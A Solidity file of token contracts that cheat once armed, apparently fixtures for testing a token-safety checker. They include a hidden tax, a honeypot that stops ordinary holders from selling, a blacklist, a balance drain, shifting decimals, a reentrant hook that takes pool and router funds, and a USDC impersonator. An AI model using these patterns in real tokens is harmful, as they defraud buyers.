// SPDX-License-Identifier: Apache-2.0
// Tokens that cheat, and two that only look as if they did. Each is honest until it is armed, as the real ones are
// while they gather liquidity.
pragma solidity 0.8.19;

interface IPool {
  function swap(address to, bool down, int256 units, uint160 limit, bytes calldata data) external;
}

interface IRouter {
  function unwrapWETH9(uint256 least, address to) external;
}

contract Honest {
  mapping(address => uint256) internal balances;
  mapping(address => mapping(address => uint256)) public allowance;
  uint256 public totalSupply;
  string public name;
  string public symbol;
  uint8 internal places;
  address internal owner = msg.sender;
  address internal pool;
  uint256 internal armedAt;
  event Transfer(address indexed from, address indexed to, uint256 value);
  event Approval(address indexed owner, address indexed spender, uint256 value);

  constructor(string memory symbol_) { (name, symbol, places) = (symbol_, symbol_, 18); }

  function decimals() public view virtual returns (uint8) { return places; }
  function balanceOf(address who) public view virtual returns (uint256) { return balances[who]; }
  function mint(address to, uint256 units) public {
    balances[to] += units;
    totalSupply += units;
    emit Transfer(address(0), to, units);
  }
  function arm(address pool_) public { (pool, armedAt) = (pool_, block.number); }
  function approve(address spender, uint256 units) public virtual returns (bool) {
    allowance[msg.sender][spender] = units;
    emit Approval(msg.sender, spender, units);
    return true;
  }
  function transfer(address to, uint256 units) public virtual returns (bool) { move(msg.sender, to, units); return true; }
  function transferFrom(address from, address to, uint256 units) public virtual returns (bool) {
    allowance[from][msg.sender] -= units;
    move(from, to, units);
    return true;
  }
  function move(address from, address to, uint256 units) internal virtual { put(from, to, units, units); }
  function put(address from, address to, uint256 taken, uint256 given) internal {
    balances[from] -= taken;
    balances[to] += given;
    emit Transfer(from, to, taken); // whatever arrived
  }
}

contract Tax is Honest { // a fiftieth of each transfer stays with the owner, and the event doesn't say so
  constructor() Honest("TAX") {}
  function move(address from, address to, uint256 units) internal override {
    put(from, to, units, armedAt == 0 ? units : units - units / 50);
    if (armedAt != 0) balances[owner] += units / 50;
  }
}

contract Honeypot is Honest { // whoever isn't a contract can only receive
  constructor() Honest("POT") {}
  function move(address from, address to, uint256 units) internal override {
    require(armedAt == 0 || from.code.length > 0 || from == owner, "trading is closed");
    super.move(from, to, units);
  }
}

contract Blacklist is Honest { // whoever bought is on its list from the next block on
  mapping(address => uint256) internal listed;
  constructor() Honest("LIST") {}
  function move(address from, address to, uint256 units) internal override {
    require(listed[from] == 0 || listed[from] == block.number, "on the list");
    if (armedAt != 0 && from.code.length > 0) listed[to] = block.number;
    super.move(from, to, units);
  }
}

contract Rebasing is Honest { // of every balance a millionth is gone with each block
  constructor() Honest("BASE") {}
  function balanceOf(address who) public view override returns (uint256) { return balances[who] - shrunk(who); }
  function shrunk(address who) internal view returns (uint256) {
    return armedAt == 0 ? 0 : balances[who] * (block.number - armedAt) / 1e6;
  }
  function move(address from, address to, uint256 units) internal override {
    require(units <= balanceOf(from), "more than there is");
    super.move(from, to, units);
  }
}

contract LyingDecimals is Honest {
  constructor() Honest("PLACES") {}
  function decimals() public view override returns (uint8) { return armedAt == 0 ? 18 : 6; }
}

contract Reentrant is Honest { // as an ERC-777's hooks let it: called on each transfer, it goes where the money is
  IRouter internal router;
  constructor(IRouter router_) Honest("HOOK") { router = router_; }
  function move(address from, address to, uint256 units) internal override {
    super.move(from, to, units);
    if (armedAt == 0) return;
    if (from == pool) IPool(pool).swap(owner, true, 1e15, 4295128740, "");
    if (to == pool) router.unwrapWETH9(0, owner); // what the router holds for whoever sells
  }
}

contract Twin is Honest { // calls itself as another one does
  constructor() Honest("USDC") {}
}

contract ReturnsFalse is Honest { // once armed nothing moves, and nothing reverts
  constructor() Honest("FALSE") {}
  function transfer(address to, uint256 units) public override returns (bool) {
    return armedAt == 0 && super.transfer(to, units);
  }
  function transferFrom(address from, address to, uint256 units) public override returns (bool) {
    return armedAt == 0 && super.transferFrom(from, to, units);
  }
}

contract MaxWallet is Honest { // nobody but a contract may hold more than a thousand
  constructor() Honest("CAPPED") {}
  function move(address from, address to, uint256 units) internal override {
    super.move(from, to, units);
    require(armedAt == 0 || to.code.length > 0 || balances[to] <= 1000e18, "more than a wallet may hold");
  }
}

contract Pausable is Honest {
  constructor() Honest("PAUSE") {}
  function move(address from, address to, uint256 units) internal override {
    require(armedAt == 0, "paused");
    super.move(from, to, units);
  }
}

contract ReturnsNothing { // as Tether's USDT on Ethereum: honest, without return values, approved from zero only
  mapping(address => uint256) public balanceOf;
  mapping(address => mapping(address => uint256)) public allowance;
  uint256 public totalSupply;
  string public constant name = "NONE";
  string public constant symbol = "NONE";
  uint8 public constant decimals = 18;
  event Transfer(address indexed from, address indexed to, uint256 value);
  event Approval(address indexed owner, address indexed spender, uint256 value);

  function arm(address) public {}
  function mint(address to, uint256 units) public {
    balanceOf[to] += units;
    totalSupply += units;
    emit Transfer(address(0), to, units);
  }
  function approve(address spender, uint256 units) public {
    require(units == 0 || allowance[msg.sender][spender] == 0, "approve zero first");
    allowance[msg.sender][spender] = units;
    emit Approval(msg.sender, spender, units);
  }
  function transfer(address to, uint256 units) public { move(msg.sender, to, units); }
  function transferFrom(address from, address to, uint256 units) public {
    allowance[from][msg.sender] -= units;
    move(from, to, units);
  }
  function move(address from, address to, uint256 units) internal {
    balanceOf[from] -= units;
    balanceOf[to] += units;
    emit Transfer(from, to, units);
  }
}
